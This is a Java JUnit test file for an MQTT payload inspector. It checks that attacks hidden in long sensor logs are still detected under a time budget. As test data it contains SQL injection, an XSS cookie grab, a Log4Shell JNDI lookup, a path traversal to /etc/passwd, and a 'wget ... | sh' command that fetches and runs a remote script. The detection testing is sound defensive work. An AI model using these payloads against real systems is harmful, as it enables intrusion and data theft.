package io.mqttsentinel.pattern;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.mqttsentinel.schemas.Action;
import io.mqttsentinel.schemas.Evidence;
import io.mqttsentinel.schemas.Finding;
import java.io.IOException;
import java.time.Duration;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.atomic.AtomicLong;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Long payloads end when their time is over; what differs from the rest is looked at before. */
final class TimeBudgetTest {

  private static final int SIZE = 200_000;
  private static final String ATTACK = "x' or 1=1 union select password from users -- ";

  private static final List<String> ATTACKS =
      List.of(
          ATTACK,
          "; wget http://198.51.100.7/a.sh -O- | sh ",
          "<script>alert(document.cookie)</script>",
          "${jndi:ldap://198.51.100.7/a}",
          "../../../../../../etc/passwd");

  private static RuleSet rules;

  @BeforeAll
  static void load() throws IOException {
    rules = RuleSet.load(new RuleSource.Shipped().read(), EngineChoice.AUTO, DecodeLimits.DEFAULT);
  }

  @ParameterizedTest
  @ValueSource(doubles = {0, 0.01, 0.3, 0.5, 0.77, 0.99, 1})
  void anAttackInALongLogIsFoundWhereverItStands(double place) {
    byte[] payload = with(log(SIZE), ATTACK, place);
    List<Finding> findings = inspect(payload, ticking());
    assertTrue(names(findings).contains(PatternInspector.TRUNCATED), () -> "" + names(findings));
    Finding attack =
        findings.stream()
            .filter(finding -> finding.getTags().contains("CWE-89"))
            .filter(finding -> finding.getAction() != Action.ALLOW)
            .findFirst()
            .orElseThrow();
    Evidence evidence = attack.getEvidence().getFirst();
    int at = new String(payload, UTF_8).indexOf(ATTACK);
    assertTrue(
        evidence.getOffset() >= at && evidence.getOffset() <= at + ATTACK.length(),
        () -> evidence + " against " + at);
  }

  @ParameterizedTest
  @ValueSource(doubles = {0.02, 0.5, 0.98})
  void markupIsFoundAsWell(double place) {
    byte[] payload = with(log(SIZE), "<img src=x onerror=alert(1)>", place);
    assertTrue(names(inspect(payload, ticking())).contains("markup_active"));
  }

  @Test
  void whatIsNotLookedAtIsSaid() {
    Finding truncated =
        inspect(log(SIZE), ticking()).stream()
            .filter(finding -> finding.getRuleId().equals(PatternInspector.TRUNCATED))
            .findAny()
            .orElseThrow();
    assertEquals("payload: time", truncated.getAttributes().get("limit"));
  }

  @Test
  void whereTimeSufficesTheWholeIsMatched() {
    assertEquals(List.of(), inspect(log(SIZE), new TimeBudget(limits(), () -> 0)));
  }

  @Test
  void whatIsFoundInShortPayloadsDoesNotDependOnTime() {
    TimeBudget untimed =
        new TimeBudget(
            limits(),
            () -> {
              throw new AssertionError("the clock was read");
            });
    HostilePayloads.all(12_000)
        .forEach(
            (shape, payload) -> {
              if (!shape.contains("gzip")) { // may become a long text
                inspect(payload, untimed);
              }
            });
    VariedLog log = new VariedLog(5);
    inspect(log.text(TimeBudget.FREE), untimed);
  }

  @Test
  void manyViewsOfAShortPayloadAreLookedAtInPartsAndAlwaysInTheSame() {
    byte[] payload = HostilePayloads.all(TimeBudget.FREE).get("mixed comments");
    Map<String, Action> once = actions(inspect(payload, new TimeBudget(limits())));
    assertEquals(Action.FLAG, once.get(PatternInspector.TRUNCATED), () -> "" + once);
    assertTrue(once.size() > 1, () -> "" + once);
    assertEquals(once, actions(inspect(payload, new TimeBudget(limits()))));
  }

  @Test
  void anAttackInAViewBeyondThoseThatAreLookedAtWholeIsFoundInAPart() {
    String log = new String(new VariedLog(9).text(50_000), UTF_8);
    // Escapes and comments on all lines: three views of the whole log before that with the attack.
    String busy = log.replace("\n", " \\u0061/**/b %41\n");
    String attack = "%27%20union%20select%20password%20from%20users%20--%20";
    byte[] payload = (busy.substring(0, 30_000) + attack + busy.substring(30_000)).getBytes(UTF_8);
    assertTrue(payload.length <= TimeBudget.FREE, () -> "" + payload.length);
    List<Finding> findings = inspect(payload, new TimeBudget(limits()));
    Map<String, Action> actions = actions(findings);
    assertTrue(actions.containsKey(PatternInspector.TRUNCATED), () -> "" + actions);
    assertTrue(
        findings.stream()
            .filter(finding -> finding.getTags().contains("CWE-89"))
            .flatMap(finding -> finding.getEvidence().stream())
            .anyMatch(evidence -> evidence.getView().contains("url")),
        () -> "" + actions);
  }

  @Test
  void whatIsBlockedIsNotDecodedWholeOverAndOver() {
    byte[] payload = with(log(40_000), "<script>alert(document.cookie)</script> %41", 0.5);
    Map<String, Action> actions = actions(inspect(payload, new TimeBudget(limits())));
    assertTrue(actions.containsValue(Action.BLOCK), () -> "" + actions);
    assertEquals(Action.FLAG, actions.get(PatternInspector.TRUNCATED), () -> "" + actions);
    byte[] honest = with(log(40_000), "%41", 0.5);
    assertEquals(Map.of(), actions(inspect(honest, new TimeBudget(limits()))));
  }

  @Test
  void withoutALimitNobodyLooksAtTheClock() {
    DecodeLimits unlimited = limits().within(Duration.ZERO);
    TimeBudget budget =
        new TimeBudget(
            unlimited,
            () -> {
              throw new AssertionError("the clock was read");
            });
    byte[] payload = new VariedLog(6).with(SIZE, ATTACK, 0.9);
    List<Finding> findings =
        new PatternInspector(rules, List.of(), unlimited, budget)
            .inspect(Messages.of("clients/dev-1/data", payload));
    assertTrue(isFound(findings), () -> "" + names(findings));
  }

  @ParameterizedTest
  @ValueSource(longs = {0, 2_000, 20_000, 150_000, 1_000_000, 10_000_000})
  void anAttackInAVariedLogIsNeverPassedSilently(long nanosOfReading) {
    Random random = new Random(nanosOfReading + 7);
    for (int round = 0; round < 12; round++) {
      VariedLog log = new VariedLog(random.nextLong());
      double place = round == 0 ? 0 : round == 1 ? 1 : random.nextDouble();
      byte[] payload = log.with(100_000, ATTACKS.get(round % ATTACKS.size()), place);
      AtomicLong now = new AtomicLong();
      TimeBudget budget = new TimeBudget(limits(), () -> now.addAndGet(nanosOfReading));
      List<Finding> findings = inspect(payload, budget);
      boolean said = names(findings).contains(PatternInspector.TRUNCATED);
      assertTrue(said || isFound(findings), () -> place + ": " + names(findings));
    }
  }

  @Test
  void anAttackAcrossTheBordersOfPartsIsFound() {
    for (String attack : ATTACKS) {
      for (int border = 1; border < 100_000 / BlockOrder.BLOCK; border += 7) {
        for (int before : new int[] {1, attack.length() / 2, attack.length() - 1}) {
          int at = border * BlockOrder.BLOCK - before;
          byte[] payload = new VariedLog(border).withAt(100_000, attack, at);
          List<Finding> findings = inspect(payload, slowThenStill());
          assertTrue(names(findings).contains(PatternInspector.TRUNCATED));
          assertTrue(isFound(findings), () -> attack + " at " + at + ": " + names(findings));
        }
      }
    }
  }

  @Test
  void matchesOf256BytesAreNotLostAtBorders() {
    RuleSet wide =
        RuleSet.load(
            Map.of(
                "a.yaml",
                "threat_patterns:\n- {name: wide, pattern: 'begin!.{244}!ends', action: block}\n"),
            EngineChoice.AUTO,
            DecodeLimits.DEFAULT);
    String match = "begin!" + "x".repeat(244) + "!ends";
    for (int before = 1; before < match.length(); before += 15) {
      byte[] payload = new VariedLog(before).withAt(SIZE, match, 9 * BlockOrder.BLOCK - before);
      List<Finding> findings =
          new PatternInspector(wide, List.of(), limits(), slowThenStill())
              .inspect(Messages.of("a", payload));
      assertEquals(List.of("wide", PatternInspector.TRUNCATED), names(findings));
    }
  }

  @Test
  void whereTheExceptionMayLieElsewhereARuleOnlyFlags() {
    RuleSet excepting =
        RuleSet.load(
            Map.of(
                "a.yaml",
                """
                threat_patterns:
                - {name: plain, pattern: 'evil!1', action: block}
                - {name: excepting, pattern: 'evil!1', not_match: justatest, action: block}
                """),
            EngineChoice.AUTO,
            DecodeLimits.DEFAULT);
    byte[] payload = with(log(SIZE), "<evil!1>", 0.3);
    Map<String, Action> actions =
        actions(
            new PatternInspector(excepting, List.of(), limits(), ticking())
                .inspect(Messages.of("a", payload)));
    Map<String, Action> expected =
        Map.of(
            "plain",
            Action.BLOCK,
            "excepting",
            Action.FLAG,
            PatternInspector.TRUNCATED,
            Action.FLAG);
    assertEquals(expected, actions);
  }

  @Test
  void bothTokenisersAreHeardWhereverEachFindsSomething() {
    RuleSet confirmed =
        RuleSet.load(
            Map.of(
                "a.yaml",
                """
                threat_patterns:
                - {name: sql, pattern: 'union select', confirm: sql, action: block}
                - {name: markup, pattern: onerror, confirm: markup, action: block}
                """),
            EngineChoice.AUTO,
            DecodeLimits.DEFAULT);
    String log = new String(new VariedLog(4).withAt(SIZE, ATTACK, 20_000), UTF_8);
    byte[] payload =
        (log.substring(0, 60_000) + "<img src=x onerror=alert(1)>" + log.substring(60_000))
            .getBytes(UTF_8);
    Map<String, Action> actions =
        actions(
            new PatternInspector(confirmed, List.of(), limits(), slowThenStill())
                .inspect(Messages.of("a", payload)));
    assertEquals(Action.BLOCK, actions.get("sql"), () -> "" + actions);
    assertEquals(Action.BLOCK, actions.get("markup"), () -> "" + actions);
  }

  @Test
  void namesAreLookedAtWhateverThePayloadTook() {
    var message = Messages.of("clients/dev-1/data", log(SIZE));
    message.setUsername("' or 1=1 -- ");
    List<Finding> findings =
        new PatternInspector(rules, List.of(), limits(), ticking()).inspect(message);
    assertTrue(
        findings.stream()
            .flatMap(finding -> finding.getEvidence().stream())
            .anyMatch(evidence -> evidence.getField().equals("username")));
  }

  @Test
  void noWholeViewIsDecodedWhenTimeIsOver() {
    byte[] payload = HostilePayloads.all(SIZE).get("mixed encodings");
    List<Finding> findings = inspect(payload, ticking());
    assertTrue(names(findings).contains(PatternInspector.TRUNCATED));
    assertFalse(
        findings.stream()
            .flatMap(finding -> finding.getEvidence().stream())
            .anyMatch(evidence -> evidence.getView().contains(">")));
  }

  @Test
  void differingBlocksComeFirst() {
    byte[] text = with(log(SIZE), "<script>alert('1')</script>", 0.6);
    int[] order = new BlockOrder().of(text);
    int at = new String(text, UTF_8).indexOf("<script>");
    assertEquals(at / BlockOrder.BLOCK, order[0]);
    int[] sorted = order.clone();
    Arrays.sort(sorted);
    for (int i = 0; i < sorted.length; i++) {
      assertEquals(i, sorted[i]);
    }
  }

  @Test
  void edgesOfPartsAreNoEndsOfTheText() {
    RuleSet anchored =
        RuleSet.load(
            Map.of(
                "a.yaml",
                """
                threat_patterns:
                - {name: first, pattern: '\\Aabcd', action: flag}
                - {name: last, pattern: 'efgh\\z', action: flag}
                """),
            EngineChoice.AUTO,
            DecodeLimits.DEFAULT);
    byte[] text = "abcd efgh ".repeat(SIZE / 10).getBytes(UTF_8);
    for (int i = 0; i < text.length; i += 97) {
      text[i] = (byte) ('k' + i % 7); // so that it does not repeat itself
    }
    text[text.length - 1] = '.';
    List<Finding> findings =
        new PatternInspector(anchored, List.of(), limits(), ticking())
            .inspect(Messages.of("a", text));
    assertEquals(List.of(PatternInspector.TRUNCATED), names(findings));
  }

  private static DecodeLimits limits() {
    return DecodeLimits.DEFAULT;
  }

  /** Slow while samples are taken, so that parts are looked at; then time stands still for all. */
  private static TimeBudget slowThenStill() {
    AtomicLong readings = new AtomicLong();
    return new TimeBudget(
        limits().within(Duration.ofSeconds(1)),
        () -> 100_000_000L * Math.min(readings.incrementAndGet(), 6));
  }

  /** Each reading takes 150 us, so that some parts are looked at and not all. */
  private static TimeBudget ticking() {
    AtomicLong now = new AtomicLong();
    return new TimeBudget(limits(), () -> now.addAndGet(150_000));
  }

  private static List<Finding> inspect(byte[] payload, TimeBudget budget) {
    return new PatternInspector(rules, List.of(), limits(), budget)
        .inspect(Messages.of("clients/dev-1/data", payload));
  }

  private static boolean isFound(List<Finding> findings) {
    return findings.stream()
        .anyMatch(
            finding ->
                !finding.getRuleId().equals(PatternInspector.TRUNCATED)
                    && finding.getAction() != Action.ALLOW);
  }

  private static Map<String, Action> actions(List<Finding> findings) {
    Map<String, Action> actions = new HashMap<>();
    findings.forEach(finding -> actions.put(finding.getRuleId(), finding.getAction()));
    return actions;
  }

  private static List<String> names(List<Finding> findings) {
    return findings.stream().map(Finding::getRuleId).toList();
  }

  private static byte[] with(byte[] text, String inserted, double place) {
    String all = new String(text, UTF_8);
    int at = (int) (place * all.length());
    int line = at == all.length() ? at : all.lastIndexOf('\n', at) + 1;
    return (all.substring(0, line) + inserted + "\n" + all.substring(line)).getBytes(UTF_8);
  }

  private static byte[] log(int size) {
    StringBuilder log = new StringBuilder();
    for (int i = 0; log.length() < size; i++) {
      log.append(
          "2026-03-01T12:00:%02d INFO sensor %d: temp=%d.%d, it's ok\n"
              .formatted(i % 60, i, i % 40, i % 10));
    }
    return log.toString().getBytes(UTF_8);
  }
}
